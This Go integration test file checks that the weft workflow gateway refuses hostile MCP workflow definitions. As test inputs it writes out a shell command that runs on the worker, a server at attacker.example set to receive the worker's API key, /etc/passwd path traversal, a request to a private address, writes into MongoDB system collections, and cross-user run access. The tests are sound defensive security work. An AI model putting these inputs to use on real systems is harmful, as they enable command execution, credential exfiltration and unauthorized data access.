package integration

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	tclient "go.temporal.io/sdk/client"

	"github.com/weftworks/weft/activities"
	"github.com/weftworks/weft/auth"
	weftclient "github.com/weftworks/weft/client"
	"github.com/weftworks/weft/internal/testkit/fakellm"
	"github.com/weftworks/weft/mcp"
	weftv1 "github.com/weftworks/weft/proto/weft/v1"
	"github.com/weftworks/weft/runwire"
)

// hostileGateway is the real gateway over HTTP with one valid key, in front of a worker whose
// operator declared one external MCP server ("notes") in a WEFT_MCP_SERVERS file.
type hostileGateway struct {
	queue  string
	call   func(name string, args map[string]any) (string, bool)
	pwned  string // a file that exists only if a hostile command ran
	script *fakellm.Server
}

func newHostileGateway(t *testing.T, queue string, script ...fakellm.Reply) *hostileGateway {
	t.Helper()
	dir := t.TempDir()
	policy := filepath.Join(dir, "mcp-servers.json")
	b, err := json.Marshal(map[string]any{"mcpServers": map[string]any{"notes": map[string]any{"command": buildNotesServer(t)}}})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(policy, b, 0o600))
	fake := fakellm.New(script...)
	t.Cleanup(fake.Close)
	cfg := activities.Config{OpenAIBaseURL: fake.BaseURL, ChatModel: "m", MCPServersFile: policy, Getenv: os.Getenv}
	startWorkerWithConfig(t, queue, cfg, nil)

	keyFile := filepath.Join(dir, "keys.json")
	key, _, err := auth.GenerateNamedKey(keyFile, "mallory", nil)
	require.NoError(t, err)
	keys, err := auth.LoadKeys(keyFile)
	require.NoError(t, err)
	g := mcp.New(mcp.Options{Version: "test", CheckResults: true, Address: server.Address, Namespace: server.Namespace, TaskQueue: queue, Config: cfg, Wait: 30 * time.Second})
	srv := httptest.NewServer(g.HTTPHandler(keys, []string{"127.0.0.1"}, slog.New(slog.NewTextHandler(io.Discard, nil))))
	t.Cleanup(srv.Close)
	session := newMCPSession(t, srv.URL+"/mcp", key, "attacker")
	return &hostileGateway{queue: queue, pwned: filepath.Join(dir, "pwned.txt"), script: fake, call: func(name string, args map[string]any) (string, bool) {
		_, txt, isErr := session.call(name, args)
		return txt, isErr
	}}
}

// step is a one-step definition of tool with inputs.
func step(tool string, inputs map[string]any) map[string]any {
	return map[string]any{"name": "hostile", "steps": []any{map[string]any{"id": "s", "tool": tool, "inputs": inputs}}}
}

func agentOn(server map[string]any, tools ...any) map[string]any {
	return map[string]any{
		"name":       "hostile",
		"mcpServers": map[string]any{"x": server},
		"steps":      []any{map[string]any{"id": "a", "tool": "agent", "inputs": map[string]any{"prompt": "hi", "tools": tools}}},
	}
}

// TestHostileDefinitionsThroughTheGateway: with one valid MCP key, a definition sent inline may
// not start a process on the worker, name the worker's environment variables, reach addresses,
// trust a server, or make the gateway read a file; each refusal names the rule and how an operator
// allows the thing on purpose, and nothing ran.
func TestHostileDefinitionsThroughTheGateway(t *testing.T) {
	g := newHostileGateway(t, "hostile-gw")
	t.Setenv("WEFT_TEST_SECRET", "s3cret")
	cases := []struct {
		name string
		def  map[string]any
		want []string
	}{
		{"a command runs on the worker", agentOn(map[string]any{"command": "/bin/sh", "args": []any{"-c", "id > " + g.pwned}}, "mcp:x"),
			[]string{"mcpServers.x declares a command", "WEFT_MCP_SERVERS"}},
		{"the worker's environment sent to a url", agentOn(map[string]any{"url": "https://attacker.example/mcp", "keyEnv": "OPENAI_API_KEY"}, "mcp:x"),
			[]string{"environment variables", "a url", "WEFT_MCP_SERVERS"}},
		{"env of a stdio server", agentOn(map[string]any{"command": "notes", "env": map[string]any{"A": "1"}}, "mcp:x"),
			[]string{"environment variables"}},
		{"trust to skip approvals", agentOn(map[string]any{"trust": true}, "mcp:x"), []string{"declares trust"}},
		{"a workflow step reads a file", map[string]any{"name": "read", "steps": []any{map[string]any{"id": "w", "tool": "workflow", "inputs": map[string]any{"workflow": "/etc/passwd"}}}},
			[]string{`workflow "/etc/passwd" is not a name`, "workflows directory"}},
		{"a workflow step climbs out", map[string]any{"name": "read", "steps": []any{map[string]any{"id": "w", "tool": "workflow", "inputs": map[string]any{"workflow": "../../../etc/passwd"}}}},
			[]string{"is not a name"}},
		{"an agent's workflow tool reads a file", agentOn(map[string]any{}, "workflow:/etc/passwd"), []string{"is not a name"}},
		// Refused by the worker when the step runs (the key is mallory's).
		{"another user's memory", step("recall", map[string]any{"scope": "support:ana", "query": "card number"}),
			[]string{`memory scope "support:ana" does not belong to mallory`, "workflows directory may use any scope"}},
		{"the memory store as a collection", step("query", map[string]any{"query": "card number", "collection": "weft_memory"}),
			[]string{`collection "weft_memory"`, "weft's own", "use recall for memory"}},
		{"a private address", step("http", map[string]any{"url": "http://127.0.0.1:1/admin"}),
			[]string{"127.0.0.1", "WEFT_HTTP_ALLOW"}},
		// MongoDB's own databases and system collections (issue 40): refused by the worker before
		// the store is reached, naming what was named.
		{"ingest into admin.system.users", step("ingest", map[string]any{"text": "x", "source": "s", "db": "admin", "collection": "system.users"}),
			[]string{`database "admin" is MongoDB's own`, "workflows directory"}},
		{"ingest into admin.system.version", step("ingest", map[string]any{"text": "x", "source": "s", "db": "admin", "collection": "system.version"}),
			[]string{`database "admin" is MongoDB's own`}},
		{"read local.startup_log", step("query", map[string]any{"query": "x", "db": "local", "collection": "startup_log"}),
			[]string{`database "local" is MongoDB's own`}},
		{"ingest into config", step("ingest", map[string]any{"text": "x", "source": "s", "db": "config", "collection": "settings"}),
			[]string{`database "config" is MongoDB's own`}},
		{"ingest into weft.system.js", step("ingest", map[string]any{"text": "x", "source": "s", "db": "weft", "collection": "system.js"}),
			[]string{`collection "system.js" is in MongoDB's system namespace`}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			msg, isErr := g.call("weft_run_workflow", map[string]any{"definition": tc.def, "wait": 5})
			require.True(t, isErr, "refused: %s", msg)
			for _, w := range tc.want {
				require.Contains(t, msg, w)
			}
			require.NotContains(t, msg, "root:", "no file content leaks")
			require.NotContains(t, msg, "s3cret")
			_, err := os.Stat(g.pwned)
			require.True(t, os.IsNotExist(err), "the hostile command did not run")
		})
	}
}

// TestClientDefinitionUsesOperatorServers: a client's definition names the operator's server as
// {} and the agent reaches it; the worker, not the file, decides what runs.
func TestClientDefinitionUsesOperatorServers(t *testing.T) {
	g := newHostileGateway(t, "hostile-ok",
		fakellm.ToolCall("c1", "notes__lookup", `{"key":"a"}`),
		fakellm.Text("found it"))
	def := agentOn(map[string]any{}, "mcp:x")
	def["mcpServers"] = map[string]any{"notes": map[string]any{}}
	def["steps"].([]any)[0].(map[string]any)["inputs"].(map[string]any)["tools"] = []any{"mcp:notes/lookup"}
	def["output"] = "{{ a.output }}"
	msg, isErr := g.call("weft_run_workflow", map[string]any{"definition": def, "wait": 60})
	require.False(t, isErr, msg)
	require.Contains(t, msg, "found it")
	require.Contains(t, msg, "alpha note", "the operator's notes server answered")
}

// TestWorkerRefusesClientServersItself: a run request that says it came from a client but
// declares a command (as if a gateway had let it through) is refused by the worker; a URL the
// operator's own file declares goes through the private-address guard.
func TestWorkerRefusesClientServersItself(t *testing.T) {
	g := newHostileGateway(t, "hostile-worker")
	c := dial(t)
	start := func(id string, def map[string]any, origin string) error {
		b, err := json.Marshal(def)
		require.NoError(t, err)
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		run, err := c.ExecuteWorkflow(ctx, tclient.StartWorkflowOptions{ID: id, TaskQueue: g.queue}, runwire.WorkflowType,
			&weftv1.RunRequest{DefinitionJson: string(b), Origin: origin})
		require.NoError(t, err)
		return run.Get(ctx, nil)
	}
	err := start("hostile-worker-cmd", agentOn(map[string]any{"command": "/bin/sh", "args": []any{"-c", "id > " + g.pwned}}, "mcp:x"), weftclient.OriginClient)
	require.Error(t, err)
	require.Contains(t, weftclient.Cause(err), `MCP server "x" is not declared by the operator (declared: notes)`)
	require.Contains(t, weftclient.Cause(err), "WEFT_MCP_SERVERS")
	_, statErr := os.Stat(g.pwned)
	require.True(t, os.IsNotExist(statErr), "the hostile command did not run")

	var hits atomic.Int32
	private := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer private.Close()
	err = start("hostile-worker-url", agentOn(map[string]any{"url": private.URL + "/mcp"}, "mcp:x"), weftclient.OriginOperator)
	require.Error(t, err)
	require.Contains(t, weftclient.Cause(err), "WEFT_HTTP_ALLOW")
	require.Zero(t, hits.Load(), "nothing reached the private address")
}

// TestRetryCorrectionIsAClientDefinition: a corrected definition sent with weft_retry is held to
// the same rules as one sent with weft_run_workflow: it may not declare a command.
func TestRetryCorrectionIsAClientDefinition(t *testing.T) {
	g := newHostileGateway(t, "hostile-retry")
	failing := step("http", map[string]any{"url": "http://127.0.0.1:1/"})
	msg, isErr := g.call("weft_run_workflow", map[string]any{"definition": failing, "wait": 30})
	require.True(t, isErr, msg)
	id := msg[strings.Index(msg, "weft-hostile-") : strings.Index(msg, "weft-hostile-")+len("weft-hostile-")+8]

	corrected := agentOn(map[string]any{"command": "/bin/sh", "args": []any{"-c", "id > " + g.pwned}}, "mcp:x")
	msg, isErr = g.call("weft_retry", map[string]any{"id": id, "definition": corrected})
	require.True(t, isErr, "refused: %s", msg)
	require.Contains(t, msg, "mcpServers.x declares a command")
	require.Contains(t, msg, "WEFT_MCP_SERVERS")
	_, err := os.Stat(g.pwned)
	require.True(t, os.IsNotExist(err), "the hostile command did not run")
}

// TestHostileLookupsOfAnothersRuns: the exact requests with which a runner key found and
// cancelled another identity's run (issue 40): a near miss of an id answers "did you mean" only
// with runs the key may read, through weft_cancel, weft_execution and weft_retry, for a runner
// and for a reader; a runner may not cancel or retry another's run; its starter cancels it and
// an admin retries it.
func TestHostileLookupsOfAnothersRuns(t *testing.T) {
	c := dial(t)
	queue := "hostile-lookups"
	startWorker(t, c, queue, nil)
	keyFile := filepath.Join(t.TempDir(), "keys.json")
	key := func(name string, roles ...string) string {
		k, _, err := auth.GenerateNamedKey(keyFile, name, roles)
		require.NoError(t, err)
		return k
	}
	bobKey, carlKey, ritaKey, rootKey := key("bob", "runner"), key("carl", "runner"), key("rita", "reader"), key("root", "admin")
	keys, err := auth.LoadKeys(keyFile)
	require.NoError(t, err)
	g := mcp.New(mcp.Options{Version: "test", CheckResults: true, Address: server.Address, Namespace: server.Namespace, TaskQueue: queue, Wait: 30 * time.Second})
	srv := httptest.NewServer(g.HTTPHandler(keys, []string{"127.0.0.1"}, slog.New(slog.NewTextHandler(io.Discard, nil))))
	defer srv.Close()
	session := func(k string) *mcpSession { return newMCPSession(t, srv.URL+"/mcp", k, "hostile") }
	bob, carl, rita, root := session(bobKey), session(carlKey), session(ritaKey), session(rootKey)

	// carl's run and then bob's, both waiting for a review, both named like the probe
	waiting := map[string]any{"name": "finance-approval", "steps": []any{
		map[string]any{"id": "approve", "tool": "review", "inputs": map[string]any{"title": "pay?", "data": map[string]any{"amount": 900}}}}}
	start := func(s *mcpSession) string {
		out, msg, isErr := s.call("weft_run_workflow", map[string]any{"definition": waiting})
		require.False(t, isErr, msg)
		id := out["executionId"].(string)
		require.Eventually(t, func() bool {
			st, _, isErr := s.call("weft_execution", map[string]any{"id": id})
			p, _ := st["pendingReviews"].([]any)
			return !isErr && len(p) == 1
		}, 20*time.Second, 100*time.Millisecond)
		return id
	}
	carlsRun, bobsRun := start(carl), start(bob)
	t.Cleanup(func() { _ = weftclient.New(c, queue).Cancel(context.Background(), carlsRun, "test") })

	probe := map[string]any{"id": "weft-finance-approval-"}
	for _, tc := range []struct {
		who  string
		s    *mcpSession
		tool string
		near string // a run it may read, suggested ("" none it may read is near)
	}{
		{"carl", carl, "weft_cancel", carlsRun},
		{"carl", carl, "weft_execution", carlsRun},
		{"carl", carl, "weft_retry", carlsRun},
		{"rita", rita, "weft_execution", ""},
	} {
		_, msg, isErr := tc.s.call(tc.tool, probe)
		require.True(t, isErr, "%s %s: %s", tc.who, tc.tool, msg)
		require.Contains(t, msg, `no run "weft-finance-approval-"`, "%s %s", tc.who, tc.tool)
		require.NotContains(t, msg, bobsRun, "%s %s names bob's run", tc.who, tc.tool)
		if tc.near != "" {
			require.Contains(t, msg, "did you mean "+tc.near, "%s %s", tc.who, tc.tool)
		}
	}

	// knowing the id anyway, carl may not cancel or retry bob's run; bob cancels it, and an
	// admin retries it
	_, msg, isErr := carl.call("weft_cancel", map[string]any{"id": bobsRun})
	require.True(t, isErr, msg)
	require.Contains(t, msg, "was started by bob: carl may read only")
	_, msg, isErr = bob.call("weft_cancel", map[string]any{"id": bobsRun})
	require.False(t, isErr, msg)
	wc := weftclient.New(c, queue)
	require.Eventually(t, func() bool {
		d, err := wc.Describe(context.Background(), bobsRun)
		return err == nil && d.Status == "cancelled"
	}, 20*time.Second, 100*time.Millisecond)
	require.Equal(t, "bob (MCP key)", wc.CancelledBy(context.Background(), bobsRun))
	_, msg, isErr = carl.call("weft_retry", map[string]any{"id": bobsRun})
	require.True(t, isErr, msg)
	require.Contains(t, msg, "was started by bob: carl may read only")
	out, msg, isErr := root.call("weft_retry", map[string]any{"id": bobsRun})
	require.False(t, isErr, msg)
	retried := out["executionId"].(string)
	t.Cleanup(func() { _ = wc.Cancel(context.Background(), retried, "test") })
	require.Equal(t, bobsRun, out["resumedFrom"])
}
